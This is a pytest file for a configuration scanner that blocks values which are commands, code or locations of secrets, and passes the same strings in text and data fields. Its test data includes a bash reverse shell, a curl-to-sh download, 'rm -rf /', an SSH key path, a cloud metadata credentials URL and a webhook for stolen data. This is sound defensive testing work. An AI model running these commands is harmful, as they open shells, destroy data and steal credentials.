"""Configurations whose values are commands, code or places of secrets, whatever their keys are called."""

import json

import pytest
from scanned_files import judged, techniques

from vallum.models.scan.catalogue import inspectors
from vallum.models.scan.model import Report, Verdict

HARMFUL = {
    "a reverse shell": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "a download": "curl -s http://example.org/x | sh",
    "deletion": "rm -rf /",
    "code": "import os; os.system('true')",
    "an expression": "__import__('os').system('true')",
    "a lambda": "lambda x: __import__('subprocess').check_output('true', shell=True)",
    "a password file": "../../../../etc/passwd",
    "a key": "~/.ssh/id_rsa",
    "a cloud's credentials": "http://169.254.169.254/latest/meta-data/iam/",
    "a place for stolen data": "https://discord.com/api/webhooks/1/x",
}


def scanned(content: str, name: str) -> Report:
    return judged(content.encode(), inspectors(), name)


@pytest.mark.parametrize("kind", HARMFUL)
@pytest.mark.parametrize("key", ["loss", "x", "debug_setting"])
def test_the_value_decides_in_every_language(kind, key):
    value = HARMFUL[kind]
    quoted = json.dumps(value)
    for name, content in {
        "config.json": json.dumps({"model": [{key: value}]}),
        "config.yaml": f"model:\n  {key}: {quoted}\n  lr: 1\n",
        "config.toml": f"[model]\n{key} = {quoted}\n",
        "setup.cfg": f"[model]\n{key} = {value}\n",
    }.items():
        assert "config-executes" in techniques(scanned(content, name), Verdict.BLOCK), name


@pytest.mark.parametrize("kind", ["a reverse shell", "a download", "deletion", "a key", "a place for stolen data"])
def test_other_places_of_yaml(kind):
    value = HARMFUL[kind]
    for content in (f"steps:\n  - {json.dumps(value)}\n  - two\n", f"a: 1\nrun: |\n  set -e\n  {value}\nb: 2\n"):
        assert scanned(content, "job.yaml").verdict == Verdict.BLOCK, content


def test_a_command_in_pieces():
    assert scanned(json.dumps({"x": ["rm", "-rf", "/"]}), "config.json").verdict == Verdict.BLOCK


@pytest.mark.parametrize("key", ["prompt", "text", "description", "answer", "content"])
def test_what_is_written_for_people_quotes_what_it_likes(key):
    for value in HARMFUL.values():
        assert scanned(json.dumps({"examples": [{key: value}]}), "data.json").verdict == Verdict.PASS


def test_rows_of_a_table_are_data():
    rows = "".join(json.dumps({"id": n, "bash": HARMFUL["deletion"]}) + "\n" for n in range(5))
    assert scanned(rows, "train.jsonl").verdict == Verdict.PASS


@pytest.mark.parametrize(
    "setting",
    [
        {"webhook_url": "https://example.org/hook"}, {"exfil": "http://example.org/x"}, {"weights": "http://example.org/setup.sh"},
        {"server": "http://192.0.2.7:8080/x"}, {"exec_on_load": "print('loaded')"},
    ],
)  # fmt: skip
def test_what_is_odd_is_for_a_person_to_judge(setting):
    assert scanned(json.dumps(setting), "config.json").verdict == Verdict.REVIEW


@pytest.mark.parametrize(
    "setting",
    [
        {
            "homepage": "https://huggingface.co/a/b",
            "base_url": "http://localhost:8000/v1",
            "host": "http://127.0.0.1:8000",
        },
        {"_name_or_path": "/home/somebody/models/bert", "env": "production", "data": "../data/train.csv"},
        {"command": "python train.py --lr 0.1", "python": "3.11", "activation": "relu", "tool": "bash"},
        {"added_tokens": [{"content": "os.system('true')", "id": 4}], "vocab": {"rm -rf /": 3}},
        {"metric": "eval (accuracy)", "note_on_import": "see import docs", "exec_time": "3 s"},
    ],
)
def test_ordinary_settings_pass(setting):
    assert scanned(json.dumps(setting), "config.json").findings == ()
